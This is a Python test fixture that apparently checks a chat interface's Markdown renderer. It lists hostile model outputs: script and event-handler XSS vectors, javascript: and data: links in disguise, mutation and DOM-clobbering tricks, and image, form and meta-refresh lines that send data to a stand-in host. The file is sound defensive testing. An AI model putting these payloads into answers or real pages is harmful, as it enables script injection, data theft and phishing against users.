"""What a hostile model may say. Nothing of it may run, load, submit or cover anything on the page."""

OUTSIDE = "http://outside.invalid"
"""A host that no page may ask for anything."""

HOSTILE: dict[str, str] = {
    "script": "<script>window.hacked = 1</script>",
    "image_onerror": "<img src=x onerror='window.hacked = 1'>",
    "svg_onload": "<svg onload='window.hacked = 1'><animate onbegin='window.hacked = 1'/></svg>",
    "iframe": (f"<iframe src='{OUTSIDE}/frame' srcdoc='<script>parent.hacked = 1</script>'></iframe>"),
    "math": (
        "<math><mtext><table><mglyph><style><img src=x onerror='window.hacked = 1'>"
        "</style></mglyph></table></mtext></math>"
    ),
    "remote_image": f"![secret]({OUTSIDE}/leak.png?q=secret)",
    "image_in_link": f"[![a]({OUTSIDE}/leak.png)]({OUTSIDE}/page)",
    "javascript_link": "[click](javascript:window.hacked=1)",
    "javascript_link_in_disguise": (
        "[click](java&#x0A;script:window.hacked=1) <a href='&#106;avascript:window.hacked=1'>x</a>"
    ),
    "data_link": "[click](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGFja2VkPTE8L3NjcmlwdD4=)",
    "autolink": "<javascript:window.hacked=1> <vbscript:msgbox>",
    "reference_link": "[click][x]\n\n[x]: javascript:window.hacked=1\n",
    "style": (
        f"<style>* {{ background: url({OUTSIDE}/css) }}</style><p style='position:fixed;inset:0'>cover</p>"
    ),
    "form": (
        f"<form action='{OUTSIDE}/form'><input name=password><button "
        "autofocus onfocus='window.hacked = 1'>Go</button></form>"
    ),
    "link_and_meta": (
        f"<link rel=stylesheet href='{OUTSIDE}/css'><meta http-equiv=refresh "
        f"content='0;{OUTSIDE}'><base href='{OUTSIDE}'>"
    ),
    "object": (
        f"<object data='{OUTSIDE}/o'></object><embed "
        f"src='{OUTSIDE}/e'><video src='{OUTSIDE}/v' autoplay>"
        "</video>"
    ),
    "code_fence_class": '```x"onmouseover="window.hacked=1\n</code><script>window.hacked=1</script>\n```',
    "attribute_in_title": "[a](http://x.de 'title\" onmouseover=\"window.hacked=1')",
    "clobbering": (
        "<a id=location name=body href='x'>a</a><form id=trustedTypes><input name=createPolicy></form>"
    ),
    "mutation": "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
    "table_cell": (
        "| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| `<script>"
        "window.hacked=1</script>` | <b>c</b> |\n"
    ),
    "same_origin_link": "[delete everything](/api/chats/delete) [up](../) [proto](//outside.invalid/x)",
    "bidi_and_controls": "\u202etxt.exe\u202c \x1b[31m \x00 \ud800",
}
"""By name: Markdown and HTML, each by itself a whole answer."""
